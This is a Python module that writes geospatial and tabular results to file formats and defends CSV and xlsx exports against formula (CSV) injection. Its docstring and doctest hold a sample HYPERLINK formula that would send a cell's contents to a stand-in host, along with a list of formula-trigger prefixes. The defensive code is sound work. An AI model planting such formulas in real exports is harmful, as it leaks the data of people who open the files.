"""Write result tables chosen by file extension (.csv, .xlsx, .parquet, .geojson, .gpkg).

Files meant for a spreadsheet (CSV, xlsx) are written with formulas neutralised: an area name
such as ``=HYPERLINK("http://…"&A1,"…")`` would otherwise run as a formula when a colleague
opens the export in Excel or WPS (OWASP "CSV injection"). :func:`neutralise_formulas` is the
same step for the app's downloads.
"""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pandas as pd

__all__ = ["write_table", "neutralise_formulas", "OUTPUT_SUFFIXES", "FORMULA_PREFIXES"]

OUTPUT_SUFFIXES = (".csv", ".xlsx", ".parquet", ".geojson", ".gpkg")
#: First characters that make a spreadsheet read a cell as a formula (or a DDE command).
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` where every text cell and column name that a spreadsheet would read
    as a formula starts with ``'`` (shown as text, the quote hidden).

    Numbers stay numbers (``-3`` is a number, not a formula); only strings are touched, and
    only those starting with one of :data:`FORMULA_PREFIXES`. Geometry columns are left alone.

    Examples
    --------
    >>> f = pd.DataFrame({"name": ['=HYPERLINK("http://x"&A1,"y")', "云岩区", "-1+1"], "n": [-3, 0, 1]})
    >>> neutralise_formulas(f)["name"].tolist()
    ['\\'=HYPERLINK("http://x"&A1,"y")', '云岩区', "'-1+1"]
    >>> neutralise_formulas(f)["n"].tolist()
    [-3, 0, 1]
    """
    out = frame.copy()
    for c in out.columns:
        s = out[c]
        if not (s.dtype == object or pd.api.types.is_string_dtype(s.dtype)):
            continue
        is_text = s.map(lambda v: isinstance(v, str)).to_numpy(dtype=bool) if s.dtype == object \
            else s.notna().to_numpy()
        if not is_text.any():
            continue
        text = s.where(is_text).astype("str")
        risky = text.str.startswith(FORMULA_PREFIXES).fillna(False).to_numpy(dtype=bool) & is_text
        if risky.any():
            fixed = s.astype(object).copy()
            fixed[risky] = "'" + text[risky]
            out[c] = fixed.astype(s.dtype) if s.dtype != object else fixed
    out.columns = [_safe_name(c) for c in out.columns]
    return out


def write_table(table: pd.DataFrame, path: str | Path) -> Path:
    """Write ``table`` to ``path``, the format chosen by the extension.

    GeoJSON and GeoPackage need a GeoDataFrame (GeoJSON is written in EPSG:4326, as RFC 7946
    requires); CSV, xlsx and Parquet take either (CSV and xlsx drop geometry, Parquet keeps it
    as GeoParquet). CSV and xlsx go through :func:`neutralise_formulas`.

    Raises
    ------
    ValueError
        Unknown extension, or a spatial format asked of a table without geometry.
    """
    import geopandas as gpd

    path = Path(path)
    suffix = path.suffix.lower()
    if suffix not in OUTPUT_SUFFIXES:
        raise ValueError(
            f"--out {path}: unknown extension {suffix or '(none)'!r}; use one of {', '.join(OUTPUT_SUFFIXES)}"
        )
    path.parent.mkdir(parents=True, exist_ok=True)
    is_geo = isinstance(table, gpd.GeoDataFrame) and table.geometry.name in table.columns
    if suffix in (".csv", ".xlsx"):
        frame = pd.DataFrame(table.drop(columns=table.geometry.name)) if is_geo else pd.DataFrame(table)
        frame = neutralise_formulas(frame)
        if suffix == ".csv":
            # BOM: Excel opens Chinese correctly. CRLF (RFC 4180): the csv writer then quotes a
            # value holding a lone CR, which it otherwise leaves bare to split the row on reading
            frame.to_csv(path, index=False, encoding="utf-8-sig", lineterminator="\r\n")
        else:
            _write_xlsx(frame, path)
    elif suffix == ".parquet":
        table.to_parquet(path, index=False)
    else:
        if not is_geo:
            raise ValueError(f"--out {path}: {suffix} needs geometry; this result has none (use .csv or .parquet)")
        out = table.to_crs(4326) if suffix == ".geojson" and table.crs is not None else table
        if path.exists():
            path.unlink()
        out.to_file(path, driver="GeoJSON" if suffix == ".geojson" else "GPKG", engine="pyogrio")
    return path


def _safe_name(name: object) -> object:
    return "'" + name if isinstance(name, str) and name.startswith(FORMULA_PREFIXES) else name


def _write_xlsx(frame: pd.DataFrame, path: Path) -> None:
    """xlsx where text stays text: openpyxl stores a string starting with ``=`` as a formula,
    so string cells are written with their type set explicitly."""
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("data")
    ws.append([_cell(ws, str(c)) for c in frame.columns])
    cols = []
    for c in frame.columns:
        s = frame[c]
        if isinstance(s.dtype, pd.DatetimeTZDtype):
            s = s.dt.tz_localize(None)
        v = s.astype(object).where(s.notna(), None).to_numpy()
        cols.append(v)
    for row in zip(*cols) if cols else ():
        ws.append([_cell(ws, v) for v in row])
    wb.save(path)


def _cell(ws, v):
    from openpyxl.cell import WriteOnlyCell

    if isinstance(v, str):
        cell = WriteOnlyCell(ws, value=v)
        cell.data_type = "s"  # never "f", whatever the text starts with
        return cell
    if isinstance(v, (np.integer, np.floating, np.bool_)):
        return v.item()
    if isinstance(v, pd.Timestamp):
        return v.to_pydatetime()
    return v
